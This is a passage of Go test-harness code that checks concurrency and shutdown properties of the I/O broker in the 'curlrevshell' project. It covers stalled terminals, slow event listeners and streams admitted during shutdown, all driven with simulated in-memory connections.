			r.Floor(fmt.Sprintf("patience_teardowns_stalled_%ds", s), int64(2*(n/len(patPlans))))
		}
		if n >= len(patPlans) {
			r.Floor("patience_distinct_teardown_ways", int64(len(ways)))
		}
	}
}

func runPatience(r *mon.Run, idx, och int, gens []patGen, markWay func(patWay)) {
	const engine = "patience"
	w, err := bk.NewWorld(och, 256)
	if err != nil {
		r.Inconclusive(err.Error())
		return
	}
	s := &series{r: r, engine: engine, idx: idx, w: w, och: och, nLst: 2}
	for _, g := range gens {
		load := fmt.Sprintf("terminal-stalled-%ds-behind-%s", g.Stall, g.Fill)
		if g.AtAttach {
			load += "-while-attaching"
		}
		s.gens = append(s.gens, Gen{Bidir: g.Way.Bidir, Attach: g.Way.Attach, OutFirst: g.OutFirst, Load: load, First: g.Way.First, How: g.Way.How, Both: g.Way.Both, WK: g.WK})
	}
	x := bk.NewExec(w, s.viol) // only closes the world and carries the trace for witnesses
	s.x = x
	tr := func(format string, a ...any) { x.Trace = append(x.Trace, fmt.Sprintf(format, a...)) }
	inconc := func(what string) {
		r.Inconclusive(fmt.Sprintf("patience %d: %s; log tail: %v", idx, what, w.Log.Tail(12)))
		x.Stalled = true
	}
	waitEv := func(from int, pred func(bk.Event) bool) (bk.Event, bool) { return w.Log.Wait(from, bk.Bound, pred) }
	marker := func(tag string) (bk.Event, bool) {
		select {
		case w.Och <- opshell.CLine{Line: tag}:
		case <-time.After(bk.Bound):
			inconc("marker line not accepted by the operator channel")
			return bk.Event{}, false
		}
		ev, ok := waitEv(s.opFrom, func(e bk.Event) bool { return e.Kind == "op" && e.S == tag })
		if !ok {
			inconc("marker line not seen on the operator channel")
		}
		return ev, ok
	}
	// attached: every direction of a has been attached (false: refused or nothing happened)
	// (displayed: also wait until the notices of its admission have been displayed, so that the terminal
	// is idle afterwards; a notice that does not come is judged with the generation)
	attached := func(n int, a *bk.Attempt, from int, displayed bool) bool {
		defer func() {
			if !displayed || x.Stalled {
				return
			}
			if a.Kind != "io" {
				waitEv(from, func(e bk.Event) bool {
					return e.Kind == "op" && strings.HasPrefix(e.S, "["+a.Addr+"] ") && strings.Contains(e.S, "connected: ID")
				})
			}
		}()
		for _, d := range a.Dirs() {
			ev, ok := waitEv(from, func(e bk.Event) bool {
				return e.Att == a.ID && (e.Kind == "slog" && e.Dir == d && e.S == bk.MsgNew || e.Kind == "ret")
			})
			if !ok || ev.Kind == "ret" {
				s.viol("fresh-shell-refused", fmt.Sprintf("generation %d: attempt %d (%s) with a fresh ID was not attached although the previous shell is completely gone", n, a.ID, a.Kind))
				x.Stalled = true
				return false
			}
		}
		return true
	}
	probe := func(n int, in, out *bk.Attempt) bool {
		from := w.Log.Len()
		if out != nil {
			tok := fmt.Sprintf("PAT<%d.%d>;", idx, n)
			out.Rd.PushData(tok)
			if _, ok := waitEv(from, func(e bk.Event) bool { return e.Kind == "op" && e.Plain && strings.Contains(e.S, tok) }); !ok {
				s.viol("live-output-not-shown", fmt.Sprintf("generation %d: probe chunk of the attached output was not shown to the operator", n))
				x.Stalled = true
				return false
			}
		}
		if in != nil {
			line := fmt.Sprintf("PAT-LINE-%d-%d", idx, n)
			select {
			case w.Ich <- line:
			case <-time.After(bk.Bound):
				inconc("operator input channel full")
				return false
			}
			if _, ok := waitEv(from, func(e bk.Event) bool { return e.Kind == "w" && e.Att == in.ID && strings.Contains(e.S, line) }); !ok {
				s.viol("live-input-not-fed", fmt.Sprintf("generation %d: probe line did not reach the attached input", n))
				x.Stalled = true
				return false
			}
		}
		return true
	}
	trigger := func(a *bk.Attempt, how string) {
		switch how {
		case "cancel":
			a.Cancel()
		case "eof":
			a.Rd.Push(bk.ReadItem{Err: io.EOF})
		case "err":
			a.Rd.Push(bk.ReadItem{Err: bk.ErrInjected})
		case "werr":
			a.Wr.FailWrite(0, false)
			w.Ich <- fmt.Sprintf("LINE-LOST-%d", a.ID)
		case "ferr":
			a.Wr.FailFlush(0)
			w.Ich <- fmt.Sprintf("LINE-LOST-%d", a.ID)
		}
	}
	// fill makes the operator channel full behind the stalled terminal (one line in the terminal's
	// hands, capacity lines queued)
	fill := func(n int, g patGen, out *bk.Attempt) bool {
		switch g.Fill {
		case "filler":
			for k := 0; k < och+1; k++ {
				select {
				case w.Och <- opshell.CLine{Line: fmt.Sprintf("PAT-FILL-%d-%d-%d", idx, n, k)}:
				case <-time.After(bk.Bound):
					inconc("filler line not accepted by the operator channel")
					return false
				}
			}
		case "flood-exact":
			// exactly as many chunks as fit: the forwarder has handed every one of them over and waits
			// for the next
			from := w.Log.Len()
			for k := 0; k < och+1; k++ {
				out.Rd.PushData(fmt.Sprintf("flood-%d-%d;", n, k))
			}
			c := 0
			if _, ok := waitEv(from, func(e bk.Event) bool {
				if e.Kind == "slog" && e.Att == out.ID && e.Dir == "output" && e.S == bk.MsgShellIO && strings.HasPrefix(e.Attrs[iobroker.LKData], fmt.Sprintf("flood-%d-", n)) {
					c++
				}
				return c >= och+1
			}); !ok {
				inconc("the output flood was not handed to the operator channel")
				return false
			}
		case "flood-over":
			// four more: one stays in the forwarder's hands, two in the broker's own queue, and the
			// broker's reader is back in Read
			base := out.Rd.ReadCalls()
			nf := och + 4
			for k := 0; k < nf; k++ {
				out.Rd.PushData(fmt.Sprintf("flood-%d-%d;", n, k))
			}
			ok := false
			for k := 0; k < 10000 && !ok; k++ {
				if out.Rd.ReadCalls()-base >= nf {
					ok = true
					break
				}
				time.Sleep(time.Millisecond)
			}
			if !ok {
				inconc("the output flood was not read by the broker")
				return false
			}
			time.Sleep(5 * time.Millisecond)
		}
		return true
	}
	// waited: the first operator line since the stall began that satisfies pred was displayed after the
	// terminal resumed, as line capacity+2 or later
	waited := func(stallSeq, resumeSeq int, pred func(bk.Event) bool) bool {
		k := 0
		for _, e := range w.Log.Snapshot()[stallSeq:] {
			if e.Kind != "op" {
				continue
			}
			k++
			if pred(e) {
				return k >= och+2 && e.Seq > resumeSeq
			}
		}
		return false
	}
	isNotice := func(e bk.Event) bool {
		return !e.Plain && (strings.Contains(e.S, iobroker.ShellDisconnectedMessage) || closedRe.MatchString(e.S))
	}

	for n, g := range gens {
		if x.Stalled {
			break
		}
		r.Eval(1)
		r.Distinct("patience " + g.String())
		key := fmt.Sprintf("pat-%d-%d", idx, n)
		var atts []*bk.Attempt
		var in, out *bk.Attempt
		tr("generation %d: %s", n, g)
		// ---- the shell attaches (after the first generation this also shows that the listener re-armed) ----
		start := func(a *bk.Attempt) bool {
			from := w.Log.Len()
			atts = append(atts, a)
			a.Start()
			return attached(n, a, from, true)
		}
		var second *bk.Attempt
		genFrom := w.Log.Len()
		var patStall, patResume, patDisc int
		if g.Way.Bidir {
			a := w.NewAttempt("io", "", g.WK)
			in, out = a, a
			if !start(a) {
				break
			}
		} else {
			order := []string{"in", "out"}
			if g.OutFirst {
				order = []string{"out", "in"}
			}
			var todo []*bk.Attempt
			for _, k := range order {
				if (k == "in" && g.Way.Attach == "out-only") || (k == "out" && g.Way.Attach == "in-only") {
					continue
				}
				a := w.NewAttempt(k, key, g.WK)
				if k == "in" {
					in = a
				} else {
					out = a
				}
				todo = append(todo, a)
			}
			if g.AtAttach {
				second, todo = todo[1], todo[:1]
			}
			ok := true
			for _, a := range todo {
				if ok = start(a); !ok {
					break
				}
			}
			if !ok {
				break
			}
		}
		if g.Way.Attach == "full" && !g.AtAttach {
			waitEv(genFrom, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, iobroker.ShellReadyMessage) })
		}
		if n > 0 && !gens[n-1].AtAttach {
			r.Count("patience_next_shell_accepted_after_stalled_teardown", 1)
		}
		// every notice so far has been displayed: the terminal is idle
		if _, ok := marker(fmt.Sprintf("PAT-IDLE-%d-%d", idx, n)); !ok {
			break
		}

		if g.AtAttach {
			// ---- the second direction arrives while the terminal is stalled and full ----
			resume := w.StallOperator()
			stallSeq := w.Log.Add(bk.Event{Kind: "note", Att: -1, S: "stall"})
			if !fill(n, g, out) {
				resume()
				break
			}
			from := w.Log.Len()
			atts = append(atts, second)
			second.Start()
			// its "New connection" record is written right before the notices it has to wait with
			okAtt := attached(n, second, from, false)
			if okAtt {
				tr("second direction inside; terminal stays stalled for %d s", g.Stall)
				time.Sleep(time.Duration(g.Stall) * time.Second)
			}
			resumeSeq := w.Log.Add(bk.Event{Kind: "note", Att: -1, S: "resume"})
			resume()
			if !okAtt {
				break
			}
			if _, ok := waitEv(stallSeq, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, iobroker.ShellReadyMessage) }); !ok {
				// judged below (ready-notices-0-want-1); go on with the tear-down
				tr("no ready notice within the bound after the terminal resumed")
			}
			if waited(stallSeq, resumeSeq, func(e bk.Event) bool {
				return strings.HasPrefix(e.S, "["+second.Addr+"] ")
			}) {
				r.Count("patience_attachments_whose_notices_waited_out_the_stall", 1)
			}
			if !probe(n, in, out) {
				break
			}
			// and an ordinary ending
			if g.Way.First == "in" {
				in.Cancel()
			} else {
				out.Cancel()
			}
		} else {
			if !probe(n, in, out) {
				break
			}
			// ---- the terminal stalls, the channel fills up, a direction ends ----
			resume := w.StallOperator()
			stallSeq := w.Log.Add(bk.Event{Kind: "note", Att: -1, S: "stall"})
			if !fill(n, g, out) {
				resume()
				break
			}
			firstA, peerA := in, out
			if g.Way.First == "out" {
				firstA, peerA = out, in
			}
			from := w.Log.Add(bk.Event{Kind: "note", Att: -1, S: "trigger " + g.Way.First + " " + g.Way.How + " " + g.Way.Both})
			trigger(firstA, g.Way.How)
			if g.Way.Both != "" {
				trigger(peerA, g.Way.Both)
			}
			// the direction has ended as far as the broker is concerned: its Disconnected record is
			// written right before its closure notice
			dev, ok := waitEv(from, func(e bk.Event) bool {
				return e.Kind == "slog" && e.S == bk.MsgDisconnected
			})
			if !ok {
				resume()
				s.viol("stream-does-not-end", fmt.Sprintf("generation %d (%s): no direction ended after %s/%s", n, g, g.Way.First, g.Way.How))
				x.Stalled = true
				break
			}
			tr("ended (Disconnected record #%d); terminal stays stalled for %d s", dev.Seq, g.Stall)
			time.Sleep(time.Duration(g.Stall) * time.Second)
			resumeSeq := w.Log.Add(bk.Event{Kind: "note", Att: -1, S: "resume"})
			resume()
			// for the accounting after the judgement
			patStall, patResume, patDisc = stallSeq, resumeSeq, dev.Seq
		}

		// ---- every Connect of the generation returns without the transport being closed first ----
		stuck := false
		for _, a := range atts {
			select {
			case <-a.Ret:
			case <-time.After(bk.Bound):
				s.viol("connect-does-not-return", fmt.Sprintf("generation %d (%s): Connect of attempt %d did not return after the shell was ended and the terminal reads again", n, g, a.ID))
				stuck = true
			}
		}
		if stuck {
			x.Stalled = true
			break
		}
		from := s.opFrom
		mev, ok := marker(fmt.Sprintf("PAT-MARK-%d-%d", idx, n))
		if !ok {
			break
		}
		s.opFrom = mev.Seq + 1
		s.judgeGen(n, s.gens[n], from, mev.Seq, atts)
		r.Count("patience_generations_judged", 1)
		if !g.AtAttach {
			r.Count(fmt.Sprintf("patience_teardowns_stalled_%ds", g.Stall), 1)
			markWay(g.Way)
			r.Count("patience_fill:"+g.Fill, 1)
			if patDisc < patResume && waited(patStall, patResume, isNotice) {
				r.Count("patience_teardowns_whose_first_notice_waited_out_the_stall", 1)
			}
		}
		for _, a := range atts {
			a.CloseTransport()
		}
	}
	// ---- afterwards: one more ordinary shell ----
	if !x.Stalled {
		n := len(gens)
		key := fmt.Sprintf("pat-%d-last", idx)
		in, out := w.NewAttempt("in", key, bk.WFlusher), w.NewAttempt("out", key, bk.WFlusher)
		from := w.Log.Len()
		in.Start()
		ok := attached(n, in, from, true)
		if ok {
			out.Start()
			ok = attached(n, out, from, true)
		}
		if ok {
			waitEv(from, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, iobroker.ShellReadyMessage) })
		}
		if ok && probe(n, in, out) {
			if !gens[n-1].AtAttach {
				r.Count("patience_next_shell_accepted_after_stalled_teardown", 1)
			}
			out.Rd.Push(bk.ReadItem{Err: io.EOF})
			for _, a := range []*bk.Attempt{in, out} {
				select {
				case <-a.Ret:
				case <-time.After(bk.Bound):
					s.viol("connect-does-not-return", fmt.Sprintf("the shell after the last stalled one: Connect of attempt %d did not return after the output ended", a.ID))
					x.Stalled = true
				}
			}
			if !x.Stalled {
				from := s.opFrom
				if mev, ok := marker(fmt.Sprintf("PAT-MARK-%d-last", idx)); ok {
					s.opFrom = mev.Seq + 1
					s.gens = append(s.gens, Gen{Attach: "full", Load: "idle", First: "out", How: "eof", WK: bk.WFlusher})
					s.judgeGen(n, s.gens[n], from, mev.Seq, []*bk.Attempt{in, out})
				}
			}
		}
	}
	s.finish()
	r.Count("patience_worlds", 1)
	if idx < 2 {
		r.Sample(engine, map[string]any{"och_cap": och, "generations": fmt.Sprint(gens), "trace": x.Trace})
	}
}

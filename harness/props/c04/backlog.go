package c04

import (
	"fmt"
	"io"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
)

// pausedListener is an event listener whose owner stops looking at its channel
// when told and looks again when told (a listener may be arbitrarily slow: the
// API only asks for a buffered channel).  What it receives is logged as "ev"
// events with index idx.
type pausedListener struct {
	ch   chan iobroker.Event
	idx  int
	mu   sync.Mutex
	gate chan struct{} // closed while the owner is reading
	wake chan struct{} // makes an owner that is waiting for an event look at the gate again
}

func newPausedListener(w *bk.World, capacity, idx int) *pausedListener {
	l := &pausedListener{ch: make(chan iobroker.Event, capacity), idx: idx, gate: make(chan struct{}), wake: make(chan struct{}, 1)}
	close(l.gate)
	w.B.AddEventListener(l.ch)
	go func() {
		for {
			l.mu.Lock()
			g := l.gate
			l.mu.Unlock()
			<-g
			select {
			case ev, ok := <-l.ch:
				if !ok {
					return
				}
				w.Log.Add(bk.Event{Kind: "ev", Att: -1, N: l.idx, S: string(ev.Type)})
			case <-l.wake:
			}
		}
	}()
	return l
}

func (l *pausedListener) pause() {
	l.mu.Lock()
	l.gate = make(chan struct{})
	l.mu.Unlock()
	select {
	case l.wake <- struct{}{}:
	default:
	}
}

func (l *pausedListener) resume() {
	l.mu.Lock()
	select {
	case <-l.gate:
	default:
		close(l.gate)
	}
	l.mu.Unlock()
}

// blShell is one minimal shell of a backlog series.
type blShell struct {
	Kind string // full io in-only out-only
	End  string // out-eof out-err out-cancel in-cancel
}

// backlogCases: very many minimal shells come and go in series on one broker
// while one of its event listeners, registered next to two prompt ones, has
// stopped looking at its events.  The shells are driven from their own
// goroutine; when the driver has stopped making progress (the broker may wait
// for the listener) or is through, the listener starts reading again.  Then
// every shell must still get through, and every listener must end up with
// exactly the events of every shell, in order.  The stall detection only
// decides when the listener resumes; the verdict is on the final event
// sequences (and on progress once the listener reads again).
func backlogCases(r *mon.Run) {
	n := r.N(3, 10)
	mon.Parallel(n, n, func(i int) {
		if !r.Want("backlog", i) {
			return
		}
		rng := r.Rng("backlog", i)
		// capacity of the paused listener's channel: the recommended one first
		capacity := iobroker.EVChanLen
		if i > 0 {
			capacity = []int{1, 8, 128, iobroker.EVChanLen}[rng.IntN(4)]
		}
		// the listener reads promptly during the first `before` shells
		before := 0
		if i%2 == 1 {
			before = 1 + rng.IntN(150)
		}
		// more shells than undelivered events fit anywhere (the listener's channel, the broker's queue
		// of EVChanLen, one in the fan-out's hands), two events per shell at most
		after := (capacity+iobroker.EVChanLen+2)/2 + 90 + rng.IntN(100)
		shells := make([]blShell, before+after)
		var want []string
		for k := range shells {
			s := blShell{Kind: "full", End: []string{"out-eof", "out-err", "out-cancel", "in-cancel"}[rng.IntN(4)]}
			switch v := rng.IntN(16); {
			case v < 3:
				s.Kind = "io"
			case v == 3:
				s.Kind, s.End = "in-only", "in-cancel"
			case v == 4:
				s.Kind = "out-only"
				if s.End == "in-cancel" {
					s.End = "out-eof"
				}
			}
			shells[k] = s
			if s.Kind == "full" || s.Kind == "io" {
				want = append(want, string(iobroker.EventTypeConnected))
			}
			want = append(want, string(iobroker.EventTypeDisconnected))
		}
		w, err := bk.NewWorld(1024, 64)
		if err != nil {
			r.Inconclusive(err.Error())
			return
		}
		lst := newPausedListener(w, capacity, 2)
		desc := fmt.Sprintf("paused listener capacity=%d, pauses after %d shells, %d shells follow", capacity, before, after)
		viol := func(key, what string) {
			r.Violate("backlog", i, key, what, map[string]any{"case": desc, "log_tail": w.Log.Tail(40)})
		}

		var (
			progress atomic.Int64 // steps the driver has completed
			started  atomic.Int64 // shells started
			abort    = make(chan struct{})
			done     = make(chan string, 1) // "" = through, otherwise what the driver was waiting for when it gave up
		)
		aborted := func() bool {
			select {
			case <-abort:
				return true
			default:
				return false
			}
		}
		// waitLog waits (abortably) for a log event at/after from.
		waitLog := func(from int, pred func(bk.Event) bool) (bk.Event, bool) {
			for {
				if ev, ok := w.Log.Wait(from, 100*time.Millisecond, pred); ok {
					return ev, true
				}
				if aborted() {
					return bk.Event{}, false
				}
			}
		}
		go func() {
			from := 0
			for k, s := range shells {
				if k == before {
					lst.pause()
				}
				started.Add(1)
				key := fmt.Sprintf("bl-%d-%d", i, k)
				var atts []*bk.Attempt
				var in, out *bk.Attempt
				switch s.Kind {
				case "io":
					a := w.NewAttempt("io", "", bk.WFlusher)
					atts, in, out = []*bk.Attempt{a}, a, a
				case "in-only":
					in = w.NewAttempt("in", key, bk.WFlusher)
					atts = []*bk.Attempt{in}
				case "out-only":
					out = w.NewAttempt("out", key, bk.WFlusher)
					atts = []*bk.Attempt{out}
				default:
					in = w.NewAttempt("in", key, bk.WriterKind(k%4))
					out = w.NewAttempt("out", key, bk.WFlusher)
					atts = []*bk.Attempt{in, out}
					if k%2 == 1 {
						atts = []*bk.Attempt{out, in}
					}
				}
				for _, a := range atts {
					a.Start()
				}
				progress.Add(1)
				// attached: the ready notice for a full shell, the log record for half a shell
				var ok bool
				var ev bk.Event
				if s.Kind == "full" || s.Kind == "io" {
					ev, ok = waitLog(from, func(e bk.Event) bool {
						return e.Kind == "op" && strings.Contains(e.S, iobroker.ShellReadyMessage)
					})
				} else {
					id := atts[0].ID
					ev, ok = waitLog(from, func(e bk.Event) bool {
						return e.Kind == "slog" && e.Att == id && e.S == bk.MsgNew
					})
				}
				if !ok {
					done <- fmt.Sprintf("shell %d of %d (%+v) to be attached", k, len(shells), s)
					return
				}
				from = ev.Seq + 1
				progress.Add(1)
				switch s.End {
				case "out-eof":
					out.Rd.Push(bk.ReadItem{Err: io.EOF})
				case "out-err":
					out.Rd.Push(bk.ReadItem{Data: []byte("bye"), Err: bk.ErrInjected})
				case "out-cancel":
					out.Cancel()
				case "in-cancel":
					in.Cancel()
				}
				for _, a := range atts {
					select {
					case <-a.Ret:
					case <-abort:
						done <- fmt.Sprintf("Connect of attempt %d (shell %d of %d, %+v) to return after the shell was ended", a.ID, k, len(shells), s)
						return
					}
					progress.Add(1)
				}
				ev, ok = waitLog(from, func(e bk.Event) bool {
					return e.Kind == "op" && strings.Contains(e.S, iobroker.ShellDisconnectedMessage)
				})
				if !ok {
					done <- fmt.Sprintf("the gone notice of shell %d of %d (%+v)", k, len(shells), s)
					return
				}
				from = ev.Seq + 1
				for _, a := range atts {
					a.CloseTransport()
				}
				progress.Add(1)
			}
			done <- ""
		}()

		// phase 1: until the driver is through or has stopped making progress
		var stuck string
		through := false
		last, lastChange := int64(-1), time.Now()
		for !through {
			select {
			case stuck = <-done:
				through = true
				continue
			case <-time.After(10 * time.Millisecond):
			}
			if p := progress.Load(); p != last {
				last, lastChange = p, time.Now()
			} else if time.Since(lastChange) > 750*time.Millisecond {
				break
			}
		}
		// how far it got while the listener was not reading: events issued so far (one per ready / gone
		// notice) that the listener has not taken
		issued, taken := 0, 0
		for _, e := range w.Log.Snapshot() {
			if e.Kind == "op" && (strings.Contains(e.S, iobroker.ShellReadyMessage) || strings.Contains(e.S, iobroker.ShellDisconnectedMessage)) {
				issued++
			} else if e.Kind == "ev" && e.N == lst.idx {
				taken++
			}
		}
		startedAtResume := started.Load()
		waited := !through
		lst.resume()
		// phase 2: the listener reads again; the series must get through
		last, lastChange = progress.Load(), time.Now()
		for !through {
			select {
			case stuck = <-done:
				through = true
				continue
			case <-time.After(10 * time.Millisecond):
			}
			if p := progress.Load(); p != last {
				last, lastChange = p, time.Now()
			} else if time.Since(lastChange) > 2*bk.Bound {
				close(abort)
				stuck = <-done
				through = true
			}
		}
		if stuck != "" {
			viol("series-stuck-after-slow-listener-caught-up", fmt.Sprintf("%s: all listeners are reading, yet the series of shells does not go on: no progress for %s while waiting for %s", desc, 2*bk.Bound, stuck))
		} else {
			// every listener: exactly the events of every shell, in order
			names := []string{"prompt listener 0", "prompt listener 1", "the listener that had paused"}
			for l := 0; l < 3; l++ {
				c := 0
				w.Log.Wait(0, bk.Bound, func(e bk.Event) bool {
					if e.Kind == "ev" && e.N == l {
						c++
					}
					return c >= len(want)
				})
			}
			time.Sleep(5 * time.Millisecond) // an extra event would be right behind
			evs := w.Log.Snapshot()
			for l := 0; l < 3; l++ {
				var got []string
				for _, e := range evs {
					if e.Kind == "ev" && e.N == l {
						got = append(got, e.S)
					}
				}
				first := -1
				for k := 0; k < len(got) && k < len(want); k++ {
					if got[k] != want[k] {
						first = k
						break
					}
				}
				cnt := func(l []string, s string) (c int) {
					for _, x := range l {
						if x == s {
							c++
						}
					}
					return
				}
				dev := "what it received is a prefix of what the shells' history dictates"
				if first >= 0 {
					dev = fmt.Sprintf("first deviation at event %d", first)
				}
				gc, gd := cnt(got, string(iobroker.EventTypeConnected)), cnt(got, string(iobroker.EventTypeDisconnected))
				wc, wd := cnt(want, string(iobroker.EventTypeConnected)), cnt(want, string(iobroker.EventTypeDisconnected))
				switch {
				case len(got) < len(want):
					viol("events-lost-behind-slow-listener", fmt.Sprintf("%s: %d shells (%d of them fully attached) came and went; %s received %d connected and %d disconnected events instead of %d and %d (%s)", desc, len(shells), wc, names[l], gc, gd, wc, wd, dev))
				case len(got) > len(want):
					viol("events-doubled-behind-slow-listener", fmt.Sprintf("%s: %d shells (%d of them fully attached) came and went; %s received %d connected and %d disconnected events instead of %d and %d", desc, len(shells), wc, names[l], gc, gd, wc, wd))
				case first >= 0:
					viol("event-order-behind-slow-listener", fmt.Sprintf("%s: %s received event %d as %q, the shells' history makes it %q", desc, names[l], first, got[first], want[first]))
				}
			}
			// operator notices: one ready per fully attached shell, one gone per shell
			var ready, gone int
			for _, e := range evs {
				if e.Kind == "op" && strings.Contains(e.S, iobroker.ShellReadyMessage) {
					ready++
				} else if e.Kind == "op" && strings.Contains(e.S, iobroker.ShellDisconnectedMessage) {
					gone++
				}
			}
			if wc := len(want) - len(shells); ready != wc || gone != len(shells) {
				viol("notices-miscount-in-long-series", fmt.Sprintf("%s: %d ready and %d gone notices for %d shells, %d of them fully attached", desc, ready, gone, len(shells), wc))
			}
			r.Count("backlog_shells", int64(len(shells)))
			r.Count("backlog_events_checked_per_listener", int64(len(want)))
		}
		lst.resume()
		w.Close()
		w.B.RemoveEventListener(lst.ch)
		close(lst.ch)
		r.Eval(1)
		r.Count("backlog_cases", 1)
		// the dimension was exercised if, by the time the listener read again, more events had been
		// issued and not taken by it than fit between the broker and the listener
		if issued-taken > capacity+iobroker.EVChanLen+1 {
			r.Count("backlog_cases_with_more_undelivered_events_than_fit", 1)
		}
		if waited {
			r.Count("backlog_cases_where_the_series_waited_for_the_listener", 1)
		}
		r.Distinct(fmt.Sprintf("backlog cap=%d before=%d", capacity, before))
		if i == 0 {
			r.Sample("backlog", map[string]any{"case": desc, "events_issued_when_the_listener_resumed": issued, "events_taken_by_the_listener_until_then": taken, "shells_started_when_the_listener_resumed": startedAtResume, "series_waited_for_listener": waited, "events_expected_per_listener": len(want)})
		}
	})
	r.Floor("backlog_cases", int64(n))
	r.Floor("backlog_cases_with_more_undelivered_events_than_fit", int64((n+1)/2))
}

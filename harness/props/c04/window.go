package c04

import (
	"fmt"
	"io"
	"runtime"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
)

// windowCases: the shutdown arrives while a stream is in the middle of being
// admitted.  The broker consults the stream's own context while admitting it;
// the harness's context parks exactly that call (a context's methods are a
// legitimate place to be slow), has the program shut down, gives the broker
// time to act on it, and lets the call return.  Whatever the broker decides
// for the stream — refuse it or attach it — Do may return only after every
// stream that was attached has ended, and nothing is read or written
// afterwards.
func windowCases(r *mon.Run) {
	type wc struct {
		kind    string // in out: the stream being admitted
		method  string // which call on its context parks
		nth     int
		peer    string // none, live (other direction attached and staying), ends (attached, ends while the stream is parked)
		settle  time.Duration
		peerEnd string
	}
	n := r.N(48, 600)
	mon.Parallel(n, runtime.NumCPU(), func(i int) {
		if !r.Want("window", i) {
			return
		}
		rng := r.Rng("window", i)
		c := wc{
			kind:    []string{"in", "out"}[i%2],
			method:  []string{"Err", "Err", "Err", "Done"}[(i/2)%4],
			nth:     1,
			peer:    []string{"none", "ends", "none", "live"}[(i/8)%4],
			settle:  time.Duration(20+rng.IntN(180)) * time.Millisecond,
			peerEnd: []string{"cancel", "eof"}[rng.IntN(2)],
		}
		if rng.IntN(6) == 0 {
			c.nth = 2
		}
		w, err := bk.NewWorld(1024, 64)
		if err != nil {
			r.Inconclusive(err.Error())
			return
		}
		viol := func(key, what string) {
			r.Violate("window", i, key, what, map[string]any{"case": fmt.Sprintf("%+v", c), "log_tail": w.Log.Tail(40)})
		}
		other := map[string]string{"in": "out", "out": "in"}[c.kind]
		var peer *bk.Attempt
		if c.peer != "none" {
			peer = w.NewAttempt(other, "s", bk.WFlusher)
			peer.Start()
			if _, ok := w.Log.Wait(0, bk.Bound, func(e bk.Event) bool { return e.Kind == "slog" && e.Att == peer.ID && e.S == "New connection" }); !ok {
				r.Inconclusive(fmt.Sprintf("window %d: the peer stream was not attached", i))
				w.Close()
				return
			}
		}
		a := w.NewAttempt(c.kind, "s", bk.WFlusher)
		a.Park = bk.NewCtxPark(c.method, c.nth)
		a.Start()
		parked := false
		select {
		case <-a.Park.Entered:
			parked = true
		case <-a.Ret:
		case <-time.After(300 * time.Millisecond):
			// the broker does not make this call while admitting: the case runs without a window
		}
		w.Shutdown()
		if c.peer == "ends" {
			if c.peerEnd == "cancel" || peer.Kind == "in" {
				peer.Cancel()
			} else {
				peer.Rd.Push(bk.ReadItem{Err: io.EOF})
			}
			select {
			case <-peer.Ret:
			case <-time.After(bk.Bound):
				if !parked {
					viol("stream-does-not-end", "the attached peer stream did not end")
				}
				// parked under the broker's lock: the peer cannot finish before the parked call returns
			}
		}
		// give the shutdown time to act while the stream is parked
		select {
		case <-w.DoDone:
		case <-time.After(c.settle):
		}
		a.Park.Release()
		// what became of the stream
		from := 0
		_, attached := w.Log.Wait(from, 500*time.Millisecond, func(e bk.Event) bool {
			return (e.Kind == "slog" && e.Att == a.ID && e.S == "New connection") || (e.Kind == "ret" && e.Att == a.ID)
		})
		_ = attached
		isAttached := false
		for _, e := range w.Log.Snapshot() {
			if e.Kind == "slog" && e.Att == a.ID && e.S == "New connection" {
				isAttached = true
			}
		}
		if isAttached {
			// let data pass if it still can (whether it does is not this
			// property's business: the stream may already have been ended
			// by its peer; what matters is where Do's return falls)
			mark := w.Log.Len()
			passed := false
			if c.kind == "in" {
				select {
				case w.Ich <- "window-line":
				default:
				}
				_, passed = w.Log.Wait(mark, 200*time.Millisecond, func(e bk.Event) bool {
					return e.Kind == "w" && e.Att == a.ID || e.Kind == "ret" && e.Att == a.ID
				})
			} else {
				a.Rd.PushData("window-output\n")
				_, passed = w.Log.Wait(mark, 200*time.Millisecond, func(e bk.Event) bool {
					return e.Kind == "r" && e.Att == a.ID && e.N > 0 || e.Kind == "ret" && e.Att == a.ID
				})
			}
			if passed {
				r.Count("window_attached_streams_seen_passing_data_or_ending", 1)
			}
			time.Sleep(time.Duration(rng.IntN(20)) * time.Millisecond)
			r.Count("window_streams_attached_during_shutdown", 1)
		} else {
			r.Count("window_streams_refused_during_shutdown", 1)
		}
		// end everything; Do must return now
		a.Cancel()
		a.CloseTransport()
		if peer != nil {
			peer.Cancel()
			peer.CloseTransport()
		}
		stuck := false
		for _, at := range []*bk.Attempt{a, peer} {
			if at == nil {
				continue
			}
			select {
			case <-at.Ret:
			case <-time.After(bk.Bound):
				stuck = true
				viol("stream-does-not-end", fmt.Sprintf("attempt %d did not return after its context was cancelled", at.ID))
			}
		}
		if !stuck {
			select {
			case <-w.DoDone:
			case <-time.After(bk.Bound):
				viol("shutdown-does-not-finish", "Do never returned after every stream ended")
			}
		}
		// the oracle: Do's return comes after the release of every attached
		// stream and after all I/O
		doSeq := -1
		evs := w.Log.Snapshot()
		released := map[int]bool{}
		for _, e := range evs {
			if e.Kind == "hook" && e.S == "release" && doSeq < 0 {
				released[e.Att] = true
			}
			if e.Kind == "do-ret" {
				doSeq = e.Seq
				continue
			}
			if doSeq < 0 {
				continue
			}
			switch {
			case e.Kind == "hook" && e.S == "release":
				viol("do-returned-with-stream-attached", fmt.Sprintf("Do returned (event #%d) while attempt %d's %s stream was still attached: it ended only at event #%d", doSeq, e.Att, e.Dir, e.Seq))
			case e.Kind == "slog" && e.S == "New connection":
				viol("do-returned-with-stream-attached", fmt.Sprintf("attempt %d was attached (event #%d) after Do had returned (event #%d)", e.Att, e.Seq, doSeq))
			case e.Kind == "r" && released[e.Att]:
				// a Read the stream's reader was already blocked in when the stream was
				// ended returns later, with whatever the harness pushes: not the broker reading
			case e.Kind == "w" || e.Kind == "r" && e.N > 0:
				viol("io-after-shutdown", fmt.Sprintf("I/O event %s after Do returned", e))
			}
		}
		w.Close()
		r.Eval(1)
		r.Count("window_cases", 1)
		if parked {
